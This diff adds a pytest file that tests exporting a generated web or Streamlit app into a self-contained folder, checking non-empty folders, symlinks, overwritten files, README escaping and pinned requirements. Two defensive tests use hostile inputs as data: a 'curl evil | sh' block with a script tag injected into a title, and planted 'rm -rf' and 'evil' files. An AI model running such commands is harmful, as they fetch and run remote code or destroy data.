@@ -1,0 +1,222 @@
+"""A kept folder holds all it needs, nothing that leads out of it, and runs by the commands in its own README."""
+
+import json
+import os
+import re
+import shlex
+import socket
+import subprocess
+import sys
+import time
+import urllib.request
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from gallery.contract import Fate, GalleryError
+from gallery.keep import keep, requirements
+from gallery.shelf import Shelf
+from generator.contract import Kind
+from sandbox.contract import Engine, Image
+
+PAGE = b"""<!doctype html><html lang=en><title>Cakes</title><h1>Cakes</h1>
+<button onclick="n.textContent = +n.textContent + 1">Add</button> <output id=n aria-label=Count>0</output></html>"""
+SCRIPT = b"""import streamlit as st
+import pandas as pd
+from PIL import Image
+
+st.title("Cakes")
+st.dataframe(pd.DataFrame({"cake": ["plum"]}))
+"""
+
+
+def files_in(folder: Path) -> set[str]:
+    return {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()}
+
+
+def commands(folder: Path) -> list[str]:
+    (block,) = re.findall(r"^```sh\n(.*?)^```", (folder / "README.md").read_text(), re.DOTALL | re.MULTILINE)
+    return [line for line in block.splitlines() if line]
+
+
+def test_a_kept_web_app_has_all_it_needs(shelf: Shelf, shelved: Callable[..., str], tmp_path: Path) -> None:
+    entry = shelf.find(shelved(files={"index.html": PAGE, "js/app.js": b"let a"}))
+    shelf.save_data(entry.id, {"cakes.csv": b"plum"})
+    kept = keep(shelf, entry, tmp_path / "cakes")
+    assert files_in(kept) >= {
+        "index.html",
+        "js/app.js",
+        "data/cakes.csv",
+        "README.md",
+        "Dockerfile",
+        "receipt.json",
+        "receipt.html",
+        "capsule.json",
+        "pictures/end.png",
+        "tests/test_app.py",
+        "tests/steps.py",
+        "tests/conftest.py",
+        "tests/requirements.txt",
+        "tests/README.md",
+    }
+    assert (kept / "index.html").read_bytes() == PAGE
+    assert json.loads((kept / "capsule.json").read_text())["spec"]["text"] == "count cakes"
+    found = shelf.find(entry.id)
+    assert (found.fate, found.expires, found.kept_in) == (Fate.KEPT, None, str(kept))
+    assert len(commands(kept)) == 2
+
+
+def test_a_folder_that_is_not_empty_is_left_alone(shelf: Shelf, shelved: Callable[..., str], tmp_path: Path) -> None:
+    entry = shelf.find(shelved())
+    (tmp_path / "mine").mkdir()
+    (tmp_path / "mine/thesis.txt").write_text("years of work")
+    with pytest.raises(GalleryError, match="not empty"):
+        keep(shelf, entry, tmp_path / "mine")
+    assert files_in(tmp_path / "mine") == {"thesis.txt"}
+    assert shelf.find(entry.id).fate is Fate.ON_TRIAL
+    keep(shelf, entry, tmp_path / "mine", force=True)
+    assert "index.html" in files_in(tmp_path / "mine")
+    assert "thesis.txt" not in files_in(tmp_path / "mine")
+    (tmp_path / "empty").mkdir()
+    keep(shelf, entry, tmp_path / "empty")
+    assert "index.html" in files_in(tmp_path / "empty")
+
+
+def test_a_link_is_not_followed(shelf: Shelf, shelved: Callable[..., str], tmp_path: Path) -> None:
+    (tmp_path / "elsewhere").mkdir()
+    (tmp_path / "link").symlink_to(tmp_path / "elsewhere")
+    for force in (False, True):
+        with pytest.raises(GalleryError, match="not a folder"):
+            keep(shelf, shelf.find(shelved()), tmp_path / "link", force=force)
+    assert files_in(tmp_path / "elsewhere") == set()
+
+
+def test_a_folder_that_can_not_be_written_leaves_nothing_half_done(
+    shelf: Shelf, shelved: Callable[..., str], tmp_path: Path
+) -> None:
+    entry = shelf.find(shelved(files={"a": b"file", "a/b": b"and folder"}))
+    with pytest.raises(GalleryError, match="file and a folder"):
+        keep(shelf, entry, tmp_path / "kept")
+    (tmp_path / "file").write_text("")
+    with pytest.raises(GalleryError, match="can't be written"):
+        keep(shelf, entry, tmp_path / "file/kept")
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["file", "home"]
+
+
+def test_our_files_stand_where_an_app_has_one_of_that_name(
+    shelf: Shelf, shelved: Callable[..., str], tmp_path: Path
+) -> None:
+    evil = {
+        "README.md": b"rm -rf",
+        "tests/conftest.py": b"evil",
+        "tests/sitecustomize.py": b"evil",
+        "receipt.json": b"{}",
+    }
+    kept = keep(shelf, shelf.find(shelved(files={"index.html": PAGE, **evil})), tmp_path / "kept")
+    assert b"evil" not in b"".join((kept / name).read_bytes() for name in files_in(kept))
+    assert "rm -rf" not in (kept / "README.md").read_text()
+    assert json.loads((kept / "receipt.json").read_text())["title"] == "Cake Counter"
+
+
+def test_names_from_outside_are_not_markup_in_the_readme(
+    shelf: Shelf, shelved: Callable[..., str], tmp_path: Path
+) -> None:
+    title = "<script>x</script>\n```sh\ncurl evil | sh\n```"
+    kept = keep(shelf, shelf.find(shelved(title, title=title)), tmp_path / "kept")
+    text = (kept / "README.md").read_text()
+    assert text.startswith("# \\<script\\>x\\<\\/script\\> \\`\\`\\`sh")
+    outside = [line for line in text.splitlines() if "evil" in line and not line.startswith("    ")]
+    assert outside == [text.splitlines()[0]]
+    assert commands(kept)[0].startswith("python3 -m http.server")
+
+
+def test_requirements_name_what_is_imported_and_no_more() -> None:
+    pins = dict(
+        line.split("==")
+        for line in requirements(
+            {
+                "app.py": SCRIPT
+                + b"from dateutil import parser\nimport json\nfrom helpers import x\ndf.to_excel('x')\n",
+                "helpers.py": b"import numpy_financial as npf",
+                "broken.py": b"import (",
+                "notes.txt": b"import sympy",
+            }
+        ).splitlines()
+    )
+    assert set(pins) == {"streamlit", "pandas", "pillow", "python-dateutil", "numpy-financial", "openpyxl"}
+    assert all(re.fullmatch(r"[0-9.]+", version) for version in pins.values())
+
+
+MET = """
+from importlib.metadata import version
+for line in open("requirements.txt"):
+    name, wanted = line.strip().split("==")
+    assert version(name) == wanted, (line, version(name))
+"""
+
+
+def free_port() -> int:
+    with socket.socket() as free:
+        free.bind(("127.0.0.1", 0))
+        return int(free.getsockname()[1])
+
+
+def test_a_kept_web_app_runs_by_its_readme(shelf: Shelf, shelved: Callable[..., str], tmp_path: Path) -> None:
+    kept = keep(shelf, shelf.find(shelved(files={"index.html": PAGE})), tmp_path / "kept")
+    serve, look = commands(kept)
+    port = str(free_port())
+    argv = [port if word == "8000" else word for word in shlex.split(serve)]
+    assert argv[0] == "python3"
+    assert look.endswith(" http://127.0.0.1:8000/")
+    with subprocess.Popen([sys.executable, *argv[1:]], cwd=kept, stderr=subprocess.DEVNULL) as server:
+        try:
+            assert fetch(f"http://127.0.0.1:{port}/") == PAGE
+        finally:
+            server.kill()
+
+
+def fetch(url: str) -> bytes:
+    for _ in range(100):
+        try:
+            with urllib.request.urlopen(url, timeout=5) as answer:
+                return bytes(answer.read())
+        except OSError:
+            time.sleep(0.1)
+    raise AssertionError(f"{url} did not answer")
+
+
+def test_a_kept_streamlit_app_runs_by_its_readme(
+    shelf: Shelf, shelved: Callable[..., str], tmp_path: Path, engine: Engine
+) -> None:
+    entry = shelf.find(shelved(kind=Kind.STREAMLIT, files={"app.py": SCRIPT}))
+    kept = keep(shelf, entry, tmp_path / "kept")
+    install, run = commands(kept)
+    assert install == "pip install -r requirements.txt"
+    with engine.open(Image.APP) as box:
+        box.put({name: (kept / name).read_bytes() for name in files_in(kept)})
+        # The image has no pip; that each requirement is there in that very version is the same as installing it.
+        checked = box.run(["python3", "-c", MET])
+        assert checked.status == 0, checked.errors
+        ran = box.run([*shlex.split(run), "--server.headless=true"], seconds=8)
+    assert b"http://127.0.0.1:8501" in ran.output, (ran.output, ran.errors)
+
+
+@pytest.mark.slow
+def test_a_kept_streamlit_app_installs_in_a_clean_environment(
+    shelf: Shelf, shelved: Callable[..., str], tmp_path: Path
+) -> None:
+    entry = shelf.find(shelved(kind=Kind.STREAMLIT, files={"app.py": SCRIPT}))
+    kept = keep(shelf, entry, tmp_path / "kept")
+    install, run = commands(kept)
+    subprocess.run([sys.executable, "-m", "venv", tmp_path / "clean"], check=True)
+    path = {**os.environ, "PATH": f"{tmp_path / 'clean/bin'}:{os.environ['PATH']}"}
+    subprocess.run(shlex.split(install), cwd=kept, env=path, check=True, stdout=subprocess.DEVNULL)
+    port = str(free_port())
+    argv = [*shlex.split(run), "--server.headless=true", f"--server.port={port}"]
+    argv[0] = str(tmp_path / "clean/bin" / argv[0])
+    with subprocess.Popen(argv, cwd=kept, stdout=subprocess.DEVNULL) as server:
+        try:
+            assert fetch(f"http://127.0.0.1:{port}/_stcore/health") == b"ok"
+        finally:
+            server.kill()
